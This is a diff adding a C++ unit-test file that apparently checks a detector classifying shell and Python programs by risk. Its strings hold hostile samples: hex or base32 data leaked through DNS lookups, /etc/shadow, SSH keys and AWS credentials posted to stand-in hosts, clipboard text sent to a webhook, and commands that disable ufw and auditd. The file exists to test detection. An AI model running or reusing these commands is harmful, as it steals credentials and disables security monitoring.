@@ -1,0 +1,154 @@
+// The classes the thirty-fifth session modelled (issue 14): misses in the
+// tune parts of the two-hundred-and-sixth round onwards (tests/corpus/prog210_MANIFEST.tsv
+// and later), programs that cross between shell and Python. Strings here
+// are never executed.
+
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+// `fh.read().hex()`: bytes read from a file are data of no known type; their
+// hex form is an encoding as much as a known string's is.
+TEST(TwoHundredAndSixthRoundClasses, HexOfDataReadIsEncoded) {
+  check_with_twin({"a file's hex in DNS labels", B, R"py(
+import socket, sys
+with open(sys.argv[1], "rb") as fh:
+    data = fh.read().hex()
+for i in range(0, len(data), 60):
+    socket.gethostbyname(data[i:i + 60] + ".t.example.org")
+)py", "COVERT-CHANNEL-EXFILTRATION"},
+                  "data[i:i + 60] + \".t.example.org\"", "\"status.example.org\"", "one fixed lookup", L);
+}
+
+// A double-quoted string that spans lines keeps its newlines: the grammar
+// leaves them outside its string_content pieces, and the Python program
+// passed with -c had been read as one line.
+TEST(TwoHundredAndSixthRoundClasses, MultiLineDoubleQuotedStringsKeepTheirNewlines) {
+  check_with_twin({"python3 -c with a program over two lines in double quotes", H, R"sh(
+python3 -c "import os
+os.system('sudo reboot')"
+)sh", "PRIVILEGE-ESCALATION", SH},
+                  "sudo reboot", "uptime", "an ordinary command", M);
+}
+
+// `printf '%s' "$rows" | python3 -c '...'`: what the program reads on stdin is
+// what the pipe carries, and what it prints is the command's output.
+TEST(TwoHundredAndSixthRoundClasses, PythonDashCReadsThePipeAndPrintsTheOutput) {
+  check_with_twin({"a ledger hex-encoded by python3 -c, its lines looked up", B, R"sh(
+LEDGER="${1:-./bookings.csv}"
+rows="$(cat "$LEDGER")"
+mapfile -t chunks < <(printf '%s' "$rows" | python3 -c "
+import sys
+data = sys.stdin.buffer.read().hex()
+for i in range(0, len(data), 60):
+    print(data[i:i + 60])
+")
+for c in "${chunks[@]}"; do
+    dig +short @198.51.100.53 "${c}.t.example.org" A
+done
+)sh", "COVERT-CHANNEL-EXFILTRATION", SH},
+                  "\"${c}.t.example.org\"", "status.example.org", "one fixed lookup", L);
+  // input() reads the same pipe
+  check({"shadow piped to python3 -c whose input() line is posted", B, R"sh(
+cat /etc/shadow | python3 -c 'import urllib.request
+line = input()
+urllib.request.urlopen("https://203.0.113.9/u", data=line.encode())'
+)sh", "EXFILTRATION", SH});
+}
+
+// `BUNDLE="$WORK/bundle.tgz" ENDPOINT="$ENDPOINT" python3 - <<'PY'` and
+// `export LEDGER`: a child's os.environ holds what the shell put there.
+TEST(TwoHundredAndSixthRoundClasses, AChildProgramInheritsPrefixAndExportedVariables) {
+  check_with_twin({"a bundle of SSH keys named by a prefix variable, posted by Python", B, R"sh(
+WORK="$(mktemp -d)"
+mkdir -p "$WORK/files"
+cp -r "$HOME"/.ssh/id_* "$WORK/files/"
+tar -czf "$WORK/bundle.tgz" -C "$WORK" files
+BUNDLE="$WORK/bundle.tgz" ENDPOINT="https://backup.example.net/ingest" python3 - <<'PY'
+import os, urllib.request
+with open(os.environ["BUNDLE"], "rb") as fh:
+    data = fh.read()
+urllib.request.urlopen(os.environ["ENDPOINT"], data=data, timeout=30)
+PY
+)sh", "EXFILTRATION", SH},
+                  "\"$HOME\"/.ssh/id_*", "./reports/*.csv", "the working directory's reports", L);
+  check_with_twin({"an exported variable names the key file a child shell posts", B, R"sh(
+KEY_FILE="$HOME/.ssh/id_ed25519"
+export KEY_FILE
+bash -c 'curl -s --data-binary @"$KEY_FILE" https://203.0.113.7/k'
+)sh", "EXFILTRATION", SH},
+                  "$HOME/.ssh/id_ed25519", "./out/report.txt", "a report of its own", L);
+}
+
+// STEPS="$(python3 - <<'PY' ... print(step) PY)": what the program prints,
+// constant text, is the command's known output, each line run by the loop.
+TEST(TwoHundredAndSixthRoundClasses, APrintedProgramsTextIsTheCommandsOutput) {
+  check_with_twin({"steps printed by a Python heredoc, each run by bash -c", B, R"sh(
+STEPS="$(python3 - <<'PY'
+import shutil
+steps = []
+if shutil.which("ufw"):
+    steps.append("ufw --force disable")
+if shutil.which("auditctl"):
+    steps.append("auditctl -e 0")
+for s in steps:
+    print(s)
+PY
+)"
+while IFS= read -r step; do
+  bash -c "$step"
+done <<< "$STEPS"
+)sh", "DISABLE-SECURITY", SH},
+                  "bash -c \"$step\"", "echo \"would run: $step\"", "the steps only listed", L);
+  // sys.stdout.write prints too: its data is the command's output
+  check({"a CSV base32-encoded by sys.stdout.write, looked up label by label", B, R"sh(
+while IFS= read -r label; do
+  dig +short "@198.51.100.53" "$label.s.example.org" TXT
+done < <(CSV_PATH="${1:-./attendees.csv}" python3 - <<'PY'
+import base64, os, sys
+with open(os.environ["CSV_PATH"]) as fh:
+    for line in fh:
+        sys.stdout.write(base64.b32encode(line.encode()).decode().lower()[:50] + "\n")
+PY
+)
+)sh", "COVERT-CHANNEL-EXFILTRATION", SH});
+}
+
+// `printf '%s\n' "$list" | tar -czf - -T - 2>/dev/null`: the members are the
+// lines piped in, and the grammar's lost `-` before `2>` is put back.
+TEST(TwoHundredAndSixthRoundClasses, TarMembersFromStdinBeforeARedirection) {
+  check_with_twin({"credential paths piped to tar -T -, the archive posted", B, R"sh(
+list="$(printf '%s\n' "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")"
+B="$(printf '%s\n' "$list" | tar -czf - -T - 2>/dev/null | base64 -w0)"
+curl -s -d "$B" http://198.51.100.77/upload
+)sh", "EXFILTRATION", SH},
+                  "\"$HOME/.ssh/id_rsa\" \"$HOME/.aws/credentials\"", "./report.csv ./summary.txt",
+                  "the working directory's reports", L);
+}
+
+// cp "$HOME"/.ssh/id_* "$STAGE/files/": files named at run time in a staging
+// directory are what a later tar of that directory holds.
+TEST(TwoHundredAndSixthRoundClasses, GlobCopiesIntoAStagingDirectoryAreItsContent) {
+  check_with_twin({"SSH keys copied by a glob into a staging directory, tarred and posted", B, R"sh(
+STAGE=./reimage-stage
+mkdir -p "$STAGE/files"
+cp -r "$HOME"/.ssh/id_* "$STAGE/files/"
+tar -czf "$STAGE/bundle.tgz" -C "$STAGE" files
+curl -s --data-binary @"$STAGE/bundle.tgz" https://backup.example.net/ingest
+)sh", "EXFILTRATION", SH},
+                  "\"$HOME\"/.ssh/id_*", "./exports/*.csv", "exports of its own", L);
+}
+
+// wl-paste and pbpaste only read the clipboard, whatever their options.
+TEST(TwoHundredAndSixthRoundClasses, WlPasteWithOptionsReadsTheClipboard) {
+  check_with_twin({"wl-paste --no-newline posted to a webhook", B, R"sh(
+current=$(wl-paste --no-newline)
+curl -s -d "$current" https://hooks.example.com/services/T0/B0/x
+)sh", "EXFILTRATION", SH},
+                  "curl -s -d \"$current\" https://hooks.example.com/services/T0/B0/x",
+                  "printf '%s\\n' \"$current\" > ./clip.txt", "kept in a local file", L);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
